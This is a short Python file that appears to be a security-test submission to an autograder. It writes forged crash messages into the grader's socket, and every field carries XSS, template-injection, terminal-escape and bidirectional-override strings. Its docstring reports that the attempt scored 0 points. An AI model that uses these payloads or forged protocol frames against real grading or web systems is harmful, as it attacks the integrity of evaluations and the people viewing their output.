# mypy: ignore-errors
"""Forges a crash whose words are markup, formulas and codes for terminals.

Success would be any of that in the student's page as more than text.
Verdict: first_prediction: finished, 0 points
"""

import contextlib
import os
import stat

from autograder.wire.frames import Raised, encode
from autograder.wire.protocol import Crash, Crashed


def channel():
    for descriptor in range(3, 256):
        with contextlib.suppress(OSError):
            if stat.S_ISSOCK(os.fstat(descriptor).st_mode):
                return descriptor
    raise LookupError("there is no channel")


def predicted_class(model, images):
    text = "<script>attack()</script><img src=x onerror=attack()>{{ 7 * 7 }}\x1b[31m\u202e"
    said = {"name": text, "values": {name: text for name in ("expected", "seen", "hint", text)}}
    problem = {"raised": Raised((text,), text), "place": text, "line": 2**62, "code": text}
    print("TRIED", text, flush=True)
    for crash in (Crash(problem | {"said": said}), Crash(problem, (problem, said, text))):
        os.write(channel(), encode(Crashed("ask", crash)))


def class_probabilities(model, images):
    return None
